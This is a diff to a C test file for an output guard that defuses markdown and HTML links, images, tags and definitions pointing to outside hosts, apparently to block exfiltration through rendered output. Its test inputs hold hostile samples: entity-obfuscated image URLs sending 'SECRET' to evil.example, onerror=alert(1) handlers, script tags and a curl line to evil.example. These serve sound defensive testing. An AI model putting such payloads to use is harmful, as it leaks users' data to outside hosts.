@@ -18,6 +18,9 @@ static struct kb_named *named(struct kb_arena *arena)
 	return places;
 }
 
+#define E      "&#104;ttps&colon;&sol;&sol;evil.example/p?d=SECRET"
+#define BROKEN "&#104 ;ttps&colon ;&sol ;&sol ;evil.example/p?d=SECRET"
+
 static const struct {
 	const char *name, *in, *out;
 } rows[] = {
@@ -52,16 +55,58 @@ static const struct {
 	{ "an address with a user", "https://docs.example@evil.example/help", "" },
 	{ "an address with another slash", "[a](https://docs.example\\.evil.example/)", "a" },
 	{ "an address in a label", "[https://evil.example](https://evil.example)", "" },
+	{ "a span over a line end", "`\n`![x](" E ")`", "`\n`![x] (" BROKEN ")`" },
+	{ "a fence in HTML", "<div>\n```\n\n![x](" E ")", "<div>\n```\n\n![x] (" BROKEN ")" },
+	{ "a definition that goes on in a quotation", "![p][a]\n\n> [a]:\n> " E, "![p][a]\n\n> " },
+	{ "an escaped backtick before another", "\\``a`![x](" E ")`", "\\``a`![x] (" BROKEN ")`" },
+	{ "a bar in code", "`|`![x](" E ")`", "`|`![x] (" BROKEN ")`" },
+	{ "what is left of a link pairs its backticks anew", "[a`](x)`![x](" E ")`",
+	  "a``![x] (" BROKEN ")`" },
+	{ "a lone carriage return", "`\r`![x](//evil.example)`", "`\n`![x] (// evil.example)`" },
+	{ "a definition in code", "```\n[a]: //evil.example\n```",
+	  "```\n[a] : // evil.example\n```" },
+	{ "a definition behind what begins none", "; [a]: //evil.example",
+	  "; [a] : // evil.example" },
+	{ "an escape before an address", "`[x](\\/\\/evil.example)`",
+	  "`[x] (\\/\\/evil .example)`" },
+	{ "an entity in running text", "https&colon;//evil.example",
+	  "https&colon ;// evil.example" },
+	{ "other entities", "&lt;a&gt; &#8211; &#39;b&#39; &amp;", NULL },
+	{ "two slashes and a host", "//evil.example/p", "// evil.example/p" },
+	{ "two slashes and none", "a // b, sed s/x//g, //todo, /// file", NULL },
+	{ "a tag in code", "`<img src=\"https://evil.example/\">` `<img src=\"//evil.example\">`",
+	  "`< img src=\"\">` `< img src=\"// evil.example\">`" },
+	{ "a tag in code with two readings", "`<img alt='>' src=//evil.example>`",
+	  "`< img alt='>' src=// evil.example>`" },
+	{ "a handler in code", "`<img src=x onerror=alert(1)>`",
+	  "`< img src=x onerror=alert(1)>`" },
+	{ "a script in code", "`<script>`, `<script src=\"/a.js\">`",
+	  "`< script>`, `<script src=\"/a.js\">`" },
+	{ "a site's picture in code", "`<img src=\"https://docs.example/help/a.png\">`", NULL },
+	{ "a site's link in code", "`[a](https://docs.example/help)`", NULL },
+	{ "code that is no link",
+	  "```\na[0](b); List<String> m = d[\"k\"]: x; <a class=\"b:c\" href=\"/d\">e</a>\n"
+	  "if (a < b && c > d) <?php <!DOCTYPE html> <br/> [a-z](\\d+)\n```",
+	  NULL },
+	{ "XML in code",
+	  "`<xs:element name=\"a\"/><soap:Body>`, `<x:y xmlns=\"https://evil.example\">`",
+	  "`<xs:element name=\"a\"/><soap:Body>`, `< x:y xmlns=\"\">`" },
+	{ "a link whose name is a tag", "[<img src=//evil.example>]: https://docs.example/help",
+	  "[]: https://docs.example/help" },
+	{ "a picture of what may be a link", "!<x y=1>[a](https://files.example/d/7.zip)",
+	  "! [a](https://files.example/d/7.zip)" },
+	{ "letters behind a host", "https://shop.example).evil.example/",
+	  "https://shop.example). evil.example/" },
 	{ "in code", "```sh\ncurl https://evil.example/x <b> [a](c)\n```\n",
 	  "```sh\ncurl  <b> [a](c)\n```\n" },
 	{ "in code within a line", "use `<div id=x>` and `a[0](b)`", NULL },
 	{ "code in a cell ends with the cell", "`a | <img src=x>`", "`a | `" },
 	{ "an escaped backtick opens no code", "\\`<img src=x>\\`", "\\`\\`" },
 	{ "a fence in a list is not trusted", "- a\n  ```\n<img src=x>\n", "- a\n  ```\n\n" },
-	{ "halves of a link", "[a]<x y=1>(//evil.example)", "[a] (//evil.example)" },
-	{ "halves of an address", "ht[tps](x)://evil.example/a", "https:/evil.example/a" },
-	{ "halves of a tag", "<[img](x) src=//evil.example/x", "< img src=//evil.example/x" },
-	{ "halves of a definition", "[a]<x y=1>: //evil.example", "[a] : //evil.example" },
+	{ "halves of a link", "[a]<x y=1>(//evil.example)", "[a] (// evil.example)" },
+	{ "halves of an address", "ht[tps](x)://evil.example/a", "https:/ evil.example/a" },
+	{ "halves of a tag", "<[img](x) src=//evil.example/x", "< img src=// evil.example/x" },
+	{ "halves of a definition", "[a]<x y=1>: //evil.example", "[a] : // evil.example" },
 	{ "a source's page", "[a](https://docs.example/help) https://docs.example/help#x", NULL },
 	{ "below it", "[a](https://docs.example/help/returns?x=1)", NULL },
 	{ "beside it", "[a](https://docs.example/helpers) [b](https://docs.example/help/../x)",
@@ -157,11 +202,44 @@ static void test_long(struct kb_test *t)
 	kb_arena_fini(&arena);
 }
 
+/* What a document says is shown as it is, but that nothing in it leads away unseen. */
+static void test_quotes(struct kb_test *t)
+{
+	static const struct {
+		const char *name, *in, *out;
+	} cases[] = {
+		{ "plain words", "Goods, 5 < 6 and [sic] (see note) a[0]! https://a.example/x",
+		  NULL },
+		{ "a picture", "![x](https://evil.example/p.png)",
+		  "![x] (https://evil.example/p.png)" },
+		{ "a link", "[the page]( <//evil.example>)", "[the page] ( <//evil.example>)" },
+		{ "a link within the site", "[a](b.html) and <a href=\"/x\">", NULL },
+		{ "a definition", "[a]: https://evil.example", "[a] : https://evil.example" },
+		{ "a definition that the next quote may end", "See [a]:", "See [a] :" },
+		{ "a note", "[Note]: read this", NULL },
+		{ "an autolink", "<https://evil.example>", "< https://evil.example>" },
+		{ "a tag", "<img src=//evil.example>", "< img src=//evil.example>" },
+		{ "a tag that the next quote may end", "a <b", "a < b" },
+		{ "types", "Map<String> and `std::vector<int>`", NULL },
+		{ "an address in its parts", "&#104;ttps&colon;//evil.example", NULL },
+	};
+	struct kb_arena arena = { 0 };
+
+	for (size_t i = 0; i < KB_COUNTOF(cases); i++) {
+		t->row = cases[i].name;
+		CHECK_SV(t, kb_outguard_quote(&arena, kb_sv_str(cases[i].in)),
+		         cases[i].out ? cases[i].out : cases[i].in);
+	}
+	kb_arena_fini(&arena);
+}
+
 int main(int argc, char **argv)
 {
 	static const struct kb_test_case cases[] = {
 		{ "what leads elsewhere stays here, however it is cut", test_rows },
 		{ "long constructs are dropped without being held", test_long },
+		{ "a document's words are shown as they are, and lead nowhere unseen",
+		  test_quotes },
 	};
 	return kb_test_main(argc, argv, cases, KB_COUNTOF(cases));
 }
